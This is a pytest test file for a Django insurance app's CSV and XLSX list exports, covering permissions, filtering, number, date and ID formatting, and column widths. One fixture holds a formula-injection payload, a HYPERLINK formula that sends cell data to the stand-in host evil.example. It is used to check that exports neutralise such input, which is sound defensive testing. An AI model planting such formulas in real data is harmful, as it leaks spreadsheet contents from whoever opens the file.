"""SPEC 11: every list exports what the page shows, to CSV and XLSX."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from tests.factories import BuyerFactory, PolicyFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def client_a(client, personas):
    client.force_login(personas["insured_a"])
    return client


def test_csv_export_holds_only_what_the_user_may_see(client_a, policy_a, policy_b):
    response = client_a.get("/policies/", {"export": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 2
    assert rows[1][0] == policy_a.policy_number
    assert rows[1][7] == "200000.00"


def test_xlsx_export_has_money_as_exact_numbers(client, personas, insured_a):
    PolicyFactory(
        insured=insured_a,
        estimated_annual_turnover=Decimal("50000000"),
        premium_rate_percent=Decimal("0.42"),
    )
    client.force_login(personas["underwriter"])
    response = client.get("/policies/", {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    assert len(header) == 9
    assert sheet.cell(row=2, column=8).value == 168000
    assert sheet.cell(row=2, column=8).number_format == "#,##0.00"


def test_filters_and_sorting_apply_to_the_export(client, personas, insured_a):
    PolicyFactory(insured=insured_a, status="draft", policy_number="TCI2026000002")
    PolicyFactory(insured=insured_a, status="in_force", policy_number="TCI2026000001")
    PolicyFactory(insured=insured_a, status="in_force", policy_number="TCI2026000003")
    client.force_login(personas["underwriter"])
    response = client.get(
        "/policies/", {"export": "csv", "status": "in_force", "sort": "-policy_number"}
    )
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    numbers = [row[0] for row in list(csv.reader(io.StringIO(text)))[1:]]
    assert numbers == ["TCI2026000003", "TCI2026000001"]


def test_list_pages_do_not_grow_queries_with_rows(
    client, personas, insured_a, django_assert_max_num_queries
):
    for _ in range(30):
        PolicyFactory(insured=insured_a)
    client.force_login(personas["underwriter"])
    with django_assert_max_num_queries(8):
        assert client.get("/policies/").status_code == 200


# --- Spreadsheet safety and legibility (OWASP CSV injection; USCCs; widths) ----------

EVIL_NAME = '=HYPERLINK("http://evil.example/?d="&A2,"x")'


def _export(fmt, rows, columns):
    from core.exports import export_csv, export_xlsx

    if fmt == "csv":
        response = export_csv(iter(rows), columns, "test")
        text = b"".join(response.streaming_content).decode("utf-8-sig")
        return list(csv.reader(io.StringIO(text)))
    return load_workbook(io.BytesIO(export_xlsx(iter(rows), columns, "test").content)).active


def _columns():
    from core.tables import Column

    return [
        Column("name", "Name"),
        Column("uscc", "USCC"),
        Column("amount", "Amount", kind="money"),
        Column("count", "Count", kind="number"),
        Column("day", "Day", kind="date"),
    ]


def _row(**values):
    from types import SimpleNamespace

    defaults = {
        "name": "苏州医药有限公司",
        "uscc": "913205001234567896",
        "amount": Decimal("1234567.50"),
        "count": 3,
        "day": date(2026, 11, 25),
    }
    return SimpleNamespace(**{**defaults, **values})


def test_a_formula_in_a_buyer_name_stays_text_in_the_staff_xlsx(client, personas):
    BuyerFactory(name=EVIL_NAME)
    client.force_login(personas["underwriter"])
    sheet = load_workbook(io.BytesIO(client.get("/buyers/", {"export": "xlsx"}).content)).active
    cell = sheet.cell(row=2, column=1)
    assert cell.data_type == "s"
    assert cell.value == "'" + EVIL_NAME


def test_a_formula_in_a_buyer_name_loses_its_power_in_the_csv(client, personas):
    BuyerFactory(name=EVIL_NAME)
    client.force_login(personas["underwriter"])
    response = client.get("/buyers/", {"export": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text)))[1][0] == "'" + EVIL_NAME


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_every_formula_trigger_is_prefixed_with_a_quote(fmt, start):
    name = f"{start}1+2 有限公司"
    out = _export(fmt, [_row(name=name)], _columns())
    # XML reads a stored carriage return back as a line feed.
    value = out[1][0] if fmt == "csv" else out.cell(row=2, column=1).value.replace("\n", "\r")
    assert value == "'" + name


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_ordinary_text_is_left_alone(fmt):
    out = _export(fmt, [_row(name="A-1 苏州 =医药")], _columns())
    value = out[1][0] if fmt == "csv" else out.cell(row=2, column=1).value
    assert value == "A-1 苏州 =医药"


def test_negative_amounts_stay_numbers():
    columns = _columns()
    sheet = _export("xlsx", [_row(amount=Decimal("-1234.50"), count=-2)], columns)
    assert sheet.cell(row=2, column=3).value == Decimal("-1234.50")
    assert sheet.cell(row=2, column=3).data_type == "n"
    assert sheet.cell(row=2, column=3).number_format == "#,##0.00"
    assert sheet.cell(row=2, column=4).value == -2
    rows = _export("csv", [_row(amount=Decimal("-1234.50"), count=-2)], columns)
    assert rows[1][2:4] == ["-1234.50", "-2"]


def test_the_uscc_is_a_text_cell_in_the_xlsx():
    cell = _export("xlsx", [_row()], _columns()).cell(row=2, column=2)
    assert cell.value == "913205001234567896"
    assert cell.data_type == "s"
    assert cell.number_format == "@"


def test_the_uscc_is_plain_text_in_the_csv():
    # Not ="913…": that is itself a formula. Excel users take the XLSX (core/exports.py).
    assert _export("csv", [_row()], _columns())[1][1] == "913205001234567896"


def test_dates_are_date_cells_and_timestamps_keep_their_minutes():
    from datetime import datetime

    from core.tables import Column

    columns = [Column("day", "Day", kind="date"), Column("at", "At", kind="date")]
    row = _row(at=datetime(2026, 11, 25, 9, 30))
    sheet = _export("xlsx", [row], columns)
    assert sheet.cell(row=2, column=1).value == datetime(2026, 11, 25)
    assert sheet.cell(row=2, column=1).number_format == "yyyy-mm-dd"
    assert sheet.cell(row=2, column=2).value == datetime(2026, 11, 25, 9, 30)
    assert sheet.cell(row=2, column=2).number_format == "yyyy-mm-dd hh:mm"


def test_columns_are_wide_enough_for_their_content():
    rows = [_row(amount=Decimal("98765432109.99")), _row(name="短")]
    sheet = _export("xlsx", rows, _columns())
    widths = {letter: dim.width for letter, dim in sheet.column_dimensions.items()}
    # Chinese characters take two character widths: 8 of them (16) plus a margin.
    assert widths["A"] >= 18
    assert widths["B"] >= 18  # an 18-character USCC
    assert widths["C"] >= len("98,765,432,109.99")
    assert 10 <= widths["D"] <= 12  # a short number: the minimum, not the maximum
    assert widths["E"] >= len("2026-11-25")
    assert max(widths.values()) <= 60


def test_a_very_long_name_does_not_make_a_column_endless():
    sheet = _export("xlsx", [_row(name="很长" * 200)], _columns())
    assert sheet.column_dimensions["A"].width == 60


def test_control_characters_in_a_name_do_not_break_the_xlsx():
    sheet = _export("xlsx", [_row(name="苏州\x07医药")], _columns())
    assert sheet.cell(row=2, column=1).value == "苏州医药"
